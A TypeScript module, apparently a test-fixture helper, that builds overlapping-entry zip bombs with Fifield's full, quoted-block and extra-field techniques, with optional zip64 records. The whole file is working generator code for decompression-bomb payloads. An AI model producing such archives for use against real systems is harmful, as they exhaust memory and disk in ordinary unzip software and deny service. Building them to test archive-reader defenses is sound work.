// Overlapping-entry zip bombs built the way David Fifield's zipbomb tool builds them
// (https://www.bamsoftware.com/hacks/zipbomb/): every entry's data is one shared deflate kernel, reached
// through local headers that other entries "quote".
import { crc32, deflateRawSync } from 'node:zlib';

export interface BombOptions {
  /** full: every central record points at one local header; quoted: each entry's deflate stream quotes the
   * next local header in a stored block; extra: each local header's extra field quotes the next one. */
  kind: 'full' | 'quoted' | 'extra';
  files: number;
  /** Bytes the kernel inflates to. */
  kernelBytes: number;
  /** Sizes and offsets in zip64 extra fields, with a zip64 end record. */
  zip64?: boolean;
}

const nameOf = (i: number): Buffer => Buffer.from(`${String.fromCharCode(65 + (i % 26))}${i}.txt`);

interface Header {
  name: Buffer;
  crc: number;
  compressed: number;
  uncompressed: number;
  extra: Buffer;
}

function localHeader(h: Header, zip64: boolean): Buffer {
  const z64 = zip64 ? zip64Extra([h.uncompressed, h.compressed]) : Buffer.alloc(0);
  const out = Buffer.alloc(30);
  out.writeUInt32LE(0x04034b50, 0);
  out.writeUInt16LE(zip64 ? 45 : 20, 4);
  out.writeUInt16LE(8, 8);
  out.writeUInt16LE((44 << 9) | (1 << 5) | 1, 12);
  out.writeUInt32LE(h.crc, 14);
  out.writeUInt32LE(zip64 ? 0xffffffff : h.compressed, 18);
  out.writeUInt32LE(zip64 ? 0xffffffff : h.uncompressed, 22);
  out.writeUInt16LE(h.name.length, 26);
  out.writeUInt16LE(z64.length + h.extra.length, 28);
  return Buffer.concat([out, h.name, z64, h.extra]);
}

function centralRecord(h: Header, offset: number, zip64: boolean): Buffer {
  const z64 = zip64 ? zip64Extra([h.uncompressed, h.compressed, offset]) : Buffer.alloc(0);
  const out = Buffer.alloc(46);
  out.writeUInt32LE(0x02014b50, 0);
  out.writeUInt16LE(zip64 ? 45 : 20, 4);
  out.writeUInt16LE(zip64 ? 45 : 20, 6);
  out.writeUInt16LE(8, 10);
  out.writeUInt16LE((44 << 9) | (1 << 5) | 1, 14);
  out.writeUInt32LE(h.crc, 16);
  out.writeUInt32LE(zip64 ? 0xffffffff : h.compressed, 20);
  out.writeUInt32LE(zip64 ? 0xffffffff : h.uncompressed, 24);
  out.writeUInt16LE(h.name.length, 28);
  out.writeUInt16LE(z64.length, 30);
  out.writeUInt32LE(zip64 ? 0xffffffff : offset, 42);
  return Buffer.concat([out, h.name, z64]);
}

function zip64Extra(values: number[]): Buffer {
  const out = Buffer.alloc(4 + 8 * values.length);
  out.writeUInt16LE(1, 0);
  out.writeUInt16LE(8 * values.length, 2);
  for (const [i, v] of values.entries()) out.writeBigUInt64LE(BigInt(v), 4 + 8 * i);
  return out;
}

/** The central directory and end records (zip64 ones too when asked) after `body`. */
export function finish(body: Buffer, central: Buffer[], zip64: boolean): Buffer {
  const cd = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  if (!zip64) {
    end.writeUInt16LE(central.length, 8);
    end.writeUInt16LE(central.length, 10);
    end.writeUInt32LE(cd.length, 12);
    end.writeUInt32LE(body.length, 16);
    return Buffer.concat([body, cd, end]);
  }
  end.fill(0xff, 4, 20);
  const record = Buffer.alloc(56);
  record.writeUInt32LE(0x06064b50, 0);
  record.writeBigUInt64LE(44n, 4);
  record.writeUInt16LE(45, 12);
  record.writeUInt16LE(45, 14);
  record.writeBigUInt64LE(BigInt(central.length), 24);
  record.writeBigUInt64LE(BigInt(central.length), 32);
  record.writeBigUInt64LE(BigInt(cd.length), 40);
  record.writeBigUInt64LE(BigInt(body.length), 48);
  const locator = Buffer.alloc(20);
  locator.writeUInt32LE(0x07064b50, 0);
  locator.writeBigUInt64LE(BigInt(body.length + cd.length), 8);
  locator.writeUInt32LE(1, 16);
  return Buffer.concat([body, cd, record, locator, end]);
}

/** A deflate stored block that is not the last one: it makes the next `length` bytes part of the output. */
function quote(length: number): Buffer {
  const out = Buffer.alloc(5);
  out.writeUInt16LE(length, 1);
  out.writeUInt16LE(~length & 0xffff, 3);
  return out;
}

/** Builds the bomb; also returns how many bytes all its entries inflate to together. */
export function overlapBomb(options: BombOptions): { zip: Buffer; inflatedTotal: number } {
  const zip64 = options.zip64 ?? false;
  const plain = Buffer.alloc(options.kernelBytes, 0x61);
  const kernel = deflateRawSync(plain, { level: 9 });
  const n = options.files;
  const headers: Header[] = [];
  const offsets: number[] = [];
  let body: Buffer;
  if (options.kind === 'full' || options.kind === 'extra') {
    // Every entry inflates the kernel; only where their local headers are differs.
    const crc = crc32(plain);
    let locals: Buffer = Buffer.alloc(0);
    for (let i = n - 1; i >= 0; i -= 1) {
      const extra = options.kind === 'extra' && i < n - 1 ? extraQuoting(locals) : Buffer.alloc(0);
      const h = { name: nameOf(i), crc, compressed: kernel.length, uncompressed: plain.length, extra };
      headers.unshift(h);
      locals = localHeader(h, zip64);
    }
    body = Buffer.concat([locals, kernel]);
    if (options.kind === 'full') for (let i = 0; i < n; i += 1) offsets.push(0);
    else {
      let at = 0;
      for (const h of headers) {
        offsets.push(at);
        at += 30 + h.name.length + (zip64 ? 20 : 0) + 4;
      }
    }
  } else {
    // From the last entry back: entry i inflates the quoted local header of entry i + 1, then all of it.
    let data: Buffer = kernel;
    let crcParts: Buffer[] = [plain];
    let uncompressed = plain.length;
    const locals: Buffer[] = [];
    for (let i = n - 1; i >= 0; i -= 1) {
      let crc = 0;
      for (const part of crcParts) crc = crc32(part, crc);
      const h = { name: nameOf(i), crc, compressed: data.length, uncompressed, extra: Buffer.alloc(0) };
      headers.unshift(h);
      const local = localHeader(h, zip64);
      locals.unshift(local);
      if (i > 0) {
        data = Buffer.concat([quote(local.length), local, data]);
        crcParts = [local, ...crcParts];
        uncompressed += local.length;
      }
    }
    const pieces: Buffer[] = [];
    let at = 0;
    for (let i = 0; i < n; i += 1) {
      offsets.push(at);
      pieces.push(locals[i]!);
      at += locals[i]!.length;
      if (i < n - 1) {
        pieces.push(quote(locals[i + 1]!.length));
        at += 5;
      }
    }
    body = Buffer.concat([...pieces, kernel]);
  }
  const central = headers.map((h, i) => centralRecord(h, offsets[i]!, zip64));
  const inflatedTotal = headers.reduce((sum, h) => sum + h.uncompressed, 0);
  return { zip: finish(body, central, zip64), inflatedTotal };
}

/** One extra field whose data is the following local headers. */
function extraQuoting(following: Buffer): Buffer {
  const out = Buffer.alloc(4);
  out.writeUInt16LE(0x9999, 0);
  out.writeUInt16LE(following.length, 2);
  return Buffer.concat([out, following]);
}
